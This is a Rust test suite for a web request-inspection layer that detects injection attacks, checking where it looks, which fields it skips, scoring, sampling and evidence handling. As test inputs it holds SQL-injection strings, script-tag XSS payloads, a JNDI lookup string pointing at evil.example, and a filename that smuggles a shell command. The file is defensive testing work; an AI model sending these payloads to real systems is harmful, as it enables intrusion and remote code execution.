//! Detection on whole requests: where it looks, what it leaves out, whom it tells.

use std::sync::{Arc, Mutex};

use campotech_core::Mode;
use campotech_security::inspect::{Detection, Evidence, EvidenceSink, InspectLayer, Rule, Source, examine};
use campotech_testkit::RecordingObserver;
use http::{Request, StatusCode};
use http_body_util::Full;
use proptest::prelude::*;

use super::{get, post, through};

#[path = "../corpus/benign.rs"]
mod benign;

const ATTACK: &str = "' OR 1=1--";

#[derive(Debug, Default)]
struct Kept(Mutex<Vec<(u32, Vec<Evidence>)>>);

impl EvidenceSink for Kept {
    fn found(&self, score: u32, evidence: &[Evidence]) {
        self.0.lock().unwrap().push((score, evidence.to_vec()));
    }
}

fn blocking(detection: Detection) -> InspectLayer {
    InspectLayer::new().with_detection(detection.with_mode(Mode::Enforce))
}

#[tokio::test]
async fn by_default_attacks_are_told_and_pass() {
    let observer = RecordingObserver::default();
    let kept = Arc::new(Kept::default());
    let detection = Detection::new().with_evidence(kept.clone());
    let layer = InspectLayer::new().with_detection(detection).with_observer(Arc::new(observer.clone()));
    assert_eq!(post(&layer, "application/json", format!("{{\"title\":\"{ATTACK}\"}}")).await.0, 200);
    assert_eq!(
        post(&layer, "application/json", r#"{"title":"Cambiar caño 3/4\" -- O'Higgins 1450; <urgente>"}"#)
            .await
            .0,
        200
    );
    assert_eq!(observer.lines(), ["decision inspect reported detect.sqli", "decision inspect allowed ok"]);
    let kept = kept.0.lock().unwrap();
    let [(score, evidence)] = &kept[..] else { panic!("{kept:?}") };
    assert!(*score >= 5);
    assert_eq!((evidence[0].source, &*evidence[0].field), (Source::Json, "#/title"));
    assert!(evidence[0].rules.iter().any(|rule| rule == Rule::SqlTautology));
    assert!(!format!("{kept:?}").contains("1=1"), "the value is not kept");
}

#[test]
fn time_is_linear_in_the_length() {
    // Were a look at the rest repeated for every sign, each of these would take minutes.
    const SIZE: usize = 1 << 20;
    let blanks = |sign: &str| sign.repeat(SIZE / 2 / sign.len()) + &" ".repeat(SIZE / 2);
    for sign in ["\nls\tx", ";curl\tx<", ";ls", ";id", "<a ", "{%", "#\n", "${", "&#"] {
        std::hint::black_box(examine(&sign.repeat(SIZE / sign.len())));
        std::hint::black_box(examine(&blanks(sign)));
    }
}

#[tokio::test]
async fn every_place_is_looked_at() {
    let kept = Arc::new(Kept::default());
    let layer = blocking(Detection::new().with_headers(true).with_evidence(kept.clone()));
    let multipart = "multipart/form-data; boundary=b";
    let disposition = "--b\r\nContent-Disposition: form-data; name=\"a\"";
    for (source, request) in [
        (Source::Path, Request::get("/jobs/%27%20or%201=1--")),
        (Source::Query, Request::get("/jobs?q=%27+or+1%3D1--")),
        (Source::Query, Request::get("/jobs?%27+or+1%3D1--=x")),
        (Source::Header, Request::get("/").header("user-agent", "${jndi:ldap://evil.example/a}")),
        (Source::Header, Request::get("/").header("referer", "https://x/?q=<script>alert(1)</script>")),
    ] {
        let (status, ..) = through(&layer, request.body(Full::default()).unwrap()).await;
        assert_eq!(status, 400, "{source:?}");
        assert_eq!(kept.0.lock().unwrap().pop().unwrap().1[0].source, source);
    }
    for (source, content_type, body) in [
        (Source::Json, "application/json", r#"{"a":[{"b":"x"},{"b":"\u0027 OR 1=1--"}]}"#.to_owned()),
        (Source::Json, "application/json", r#"{"' OR 1=1--":1}"#.to_owned()),
        (Source::Form, "application/x-www-form-urlencoded", "a=x&b=%27+OR+1%3D1--".to_owned()),
        (Source::Multipart, multipart, format!("{disposition}\r\n\r\n' OR 1=1--\r\n--b--")),
        (Source::Multipart, multipart, format!("{disposition}; filename=\"x;id;\"\r\n\r\nx\r\n--b--")),
    ] {
        let (status, problem) = post(&layer, content_type, body.clone()).await;
        assert_eq!(status, 400, "{body}");
        assert!(problem["reason"].as_str().unwrap().starts_with("detect."), "{problem}");
        assert!(!problem.to_string().contains("1=1"), "{problem}");
        assert_eq!(kept.0.lock().unwrap().pop().unwrap().1[0].source, source, "{body}");
    }
    // The content of a file is nobody's string.
    let file = format!("{disposition}; filename=\"x.txt\"\r\n\r\n' OR 1=1--\r\n--b--");
    assert_eq!(post(&layer, multipart, file).await.0, 200);
    let quiet = blocking(Detection::new());
    let request = Request::get("/").header("user-agent", "${jndi:ldap://evil.example/a}");
    assert_eq!(through(&quiet, request.body(Full::default()).unwrap()).await.0, 200, "headers are asked for");
}

#[tokio::test]
async fn fields_can_be_left_out() {
    let detection = Detection::new()
        .without_field("/notes/*", "bio")
        .and_then(|detection| detection.without_field("/pages", "#/items/*/html"))
        .unwrap();
    let layer = blocking(detection);
    for (path, body, status) in [
        ("/users", r#"{"password":"' OR 1=1--"}"#, 200),
        ("/users", r#"{"user":{"password":"' OR 1=1--"}}"#, 200),
        ("/users", r#"{"bio":"' OR 1=1--"}"#, 400),
        ("/notes/7", r#"{"bio":"' OR 1=1--"}"#, 200),
        ("/notes/7", r#"{"a":[{"bio":["x","' OR 1=1--"]}]}"#, 200),
        ("/notes/7", r#"{"biography":"' OR 1=1--"}"#, 400),
        ("/notes/7", r#"{"bio":"x","title":"' OR 1=1--"}"#, 400),
        ("/pages", r#"{"items":[{"html":"<script>alert(1)</script>"}]}"#, 200),
        ("/pages", r#"{"items":[{"text":"<script>alert(1)</script>"}]}"#, 400),
        ("/pages", r#"{"html":"<script>alert(1)</script>"}"#, 400),
        ("/pages/1", r#"{"items":[{"html":"<script>alert(1)</script>"}]}"#, 400),
    ] {
        let request =
            Request::post(path).header("content-type", "application/json").body(Full::from(body)).unwrap();
        assert_eq!(through(&layer, request).await.0, status, "{path} {body}");
    }
    let form = Request::post("/notes/1").header("content-type", "application/x-www-form-urlencoded");
    assert_eq!(through(&layer, form.body(Full::from("bio=%27+OR+1%3D1--")).unwrap()).await.0, 200);
    for (routes, field) in
        [("notes", "bio"), ("/notes", ""), ("/notes", "#/"), ("/notes", "a/b"), ("/notes", "#/a//b")]
    {
        assert!(Detection::new().without_field(routes, field).is_err(), "{routes} {field}");
    }
}

#[tokio::test]
async fn scores_add_up_within_one_kind_of_attack() {
    // A warning of each of two kinds, and a warning and a warning of one.
    let layer = blocking(Detection::new());
    assert_eq!(get(&layer, "/?a=1+or+1&b=%3Ci%20x=1%3E").await.0, 200);
    assert_eq!(get(&layer, "/?a=1+or+1&b=1+order+by+3").await.0, 400);
    assert_eq!(get(&layer, "/?a=1+or+1&b=1+or+2").await.0, 200, "a rule counts once");
    let strict = blocking(Detection::new().with_threshold(3).unwrap());
    assert_eq!(get(&strict, "/?a=1+or+1").await.0, 400);
    for threshold in [0, 101] {
        assert_eq!(Detection::new().with_threshold(threshold).unwrap_err().code(), "range");
    }
}

#[tokio::test]
async fn a_share_of_requests_is_looked_at() {
    let none = blocking(Detection::new().with_sampling(0.0).unwrap());
    let all = blocking(Detection::new().with_sampling(1.0).unwrap());
    let some = blocking(Detection::new().with_sampling(0.5).unwrap());
    let target = "/?q=%27+or+1%3D1--";
    assert_eq!(
        (get(&none, target).await.0, get(&all, target).await.0),
        (StatusCode::OK, StatusCode::BAD_REQUEST)
    );
    let mut refused = 0;
    for _ in 0..200 {
        refused += u32::from(get(&some, target).await.0 == 400);
    }
    assert!((40..160).contains(&refused), "{refused}");
    // The gate is no matter of chance.
    assert_eq!(get(&none, "/a%00").await.0, 400);
    for share in [-0.1, 1.1, f64::NAN] {
        assert_eq!(Detection::new().with_sampling(share).unwrap_err().code(), "range");
    }
    assert_eq!(get(&InspectLayer::new().without_detection(), target).await.0, 200);
}

#[tokio::test]
async fn evidence_is_bounded_and_keyed() {
    let kept = [Arc::new(Kept::default()), Arc::new(Kept::default())];
    let body = format!("[{}0]", format!("\"{ATTACK}\",").repeat(50));
    for kept in &kept {
        let layer = blocking(Detection::new().with_evidence(kept.clone()));
        assert_eq!(post(&layer, "application/json", body.clone()).await.0, 400);
    }
    let evidence = kept.map(|kept| kept.0.lock().unwrap().pop().unwrap().1);
    assert_eq!(evidence[0].len(), 8);
    assert_eq!((&*evidence[0][7].field, evidence[0][7].hash), ("#/7", evidence[0][0].hash));
    assert_ne!(evidence[0][0].hash, evidence[1][0].hash, "another key");
}

#[test]
fn no_work_order_is_taken_for_an_attack() {
    let texts = benign::texts();
    assert!(texts.len() >= 2_000, "{}", texts.len());
    let taken: Vec<_> = texts.iter().filter(|text| examine(text).score() >= 5).collect();
    assert!(taken.is_empty(), "{taken:?}");
}

#[test]
fn attacks_of_our_own_are_found() {
    let attacks = include_str!("../corpus/attacks.tsv").lines().filter_map(|line| line.split_once('\t'));
    let missed: Vec<_> = attacks.filter(|(_, value)| examine(value).score() < 5).collect();
    // A command on a line of its own is a word, too.
    assert_eq!(missed, [("command", "%0Aid")]);
}

/// Values that are odd and valid.
const NAUGHTY: &[&str] = &[
    "",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-0",
    "1e999",
    "1/0",
    "0x0",
    "''",
    "\"\"",
    "`",
    "\\",
    "\\\\",
    "\u{0}",
    "\u{1}\u{7f}",
    "\u{85}\u{a0}\u{2028}\u{2029}",
    "\u{feff}x",
    "\u{200b}\u{200e}\u{202e}rtl",
    "e\u{301}",
    "é",
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さん",
    "الكل في المجمو عة",
    "👩‍👩‍👧‍👦🇦🇷",
    "ﬁ ﬀ",
    "ǅ",
    "İı",
    "ß",
    "\u{10ffff}",
    "%",
    "%%",
    "%s%d%n",
    "%00",
    "&",
    "&amp;",
    "&#0;",
    "<",
    ">",
    "<>",
    "</",
    "<!",
    "<!--",
    "-->",
    "]]>",
    "{{",
    "}}",
    "${",
    "#{",
    "{%",
    "--",
    "/*",
    "*/",
    "#",
    ";",
    "|",
    "||",
    "&&",
    "$(",
    "..",
    "../",
    "O'Higgins",
    "D'Angelo & Cía. <S.A.>",
    "SELECT",
    "select * from",
    "drop table",
    "OR",
    "1=1",
    "<3",
    ":'(",
    "¯\\_(ツ)_/¯",
    "con",
    "nul.txt",
    "a\tb\r\nc",
    "\u{1b}[31m",
    "ñandú",
    "3/4\" -- ½",
];

#[tokio::test]
async fn odd_values_reach_the_handler_byte_by_byte() {
    let layer = InspectLayer::new();
    for value in NAUGHTY {
        let json = serde_json::json!({ "title": value, "list": [value] }).to_string();
        let form =
            format!("a={}", percent_encoding::utf8_percent_encode(value, percent_encoding::NON_ALPHANUMERIC));
        let multipart =
            format!("--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{value}\r\n--b--\r\n");
        let control = value.chars().any(|c| c.is_ascii_control() && !"\t\r\n".contains(c));
        for (content_type, body) in [
            ("application/json", json),
            ("application/x-www-form-urlencoded", form),
            ("multipart/form-data; boundary=b", multipart),
        ] {
            let request = Request::post("/")
                .header("content-type", content_type)
                .body(Full::from(body.clone()))
                .unwrap();
            let (status, _, answer) = through(&layer, request).await;
            // Only JSON has a place for control characters.
            let refused = control && content_type != "application/json";
            assert_eq!(status == 200, !refused, "{content_type} {value:?}");
            assert!(refused || answer == body, "{content_type} {value:?}");
        }
    }
}

proptest! {
    #[test]
    fn no_text_breaks_detection(text in ".{0,60}", marks in "['\"`<>(){}\\[\\];|&$%#*/\\\\=.,:!?@~^+\\- \n\t0-9a-zA-Z\u{0}\u{ff07}]{0,60}") {
        for value in [&text, &marks, &format!("{text}{marks}")] {
            prop_assert_eq!(examine(value).score() > 0, !examine(value).is_empty());
        }
    }

    #[test]
    fn words_of_sql_and_html_in_any_order_don_t_break_it(words in proptest::collection::vec(prop_oneof![
        Just("select"), Just("union"), Just("("), Just(")"), Just("'"), Just("\""), Just("or"), Just("1"), Just("="), Just(","), Just("--"), Just("/*"),
        Just("*/"), Just(";"), Just("from"), Just("case"), Just("when"), Just("end"), Just("x"), Just("."), Just("order by"), Just("drop table"),
        Just("<script"), Just("<img "), Just("onload="), Just(">"), Just("javascript:"), Just("${"), Just("}"), Just("{{"), Just("../"), Just("%27"), Just("&#x27;"),
    ], 0..40), glue in prop_oneof![Just(""), Just(" ")]) {
        let rules = examine(&words.join(glue));
        prop_assert_eq!(rules.attack().is_some(), !rules.is_empty());
    }

    #[test]
    fn whatever_passes_is_what_came(body in prop_oneof![".{0,40}", "(a|b)=[%a-f0-9+&=]{0,20}", "--b\r\n[a-zA-Z:;=\"\r\n -]{0,60}"], kind in 0..3_usize) {
        let content_type = ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b"][kind];
        let runtime = tokio::runtime::Builder::new_current_thread().build().unwrap();
        let request = Request::post("/").header("content-type", content_type).body(Full::from(body.clone())).unwrap();
        let (status, _, answer) = runtime.block_on(through(&InspectLayer::new(), request));
        prop_assert!(status == 400 || (status == 200 && answer == body));
    }
}
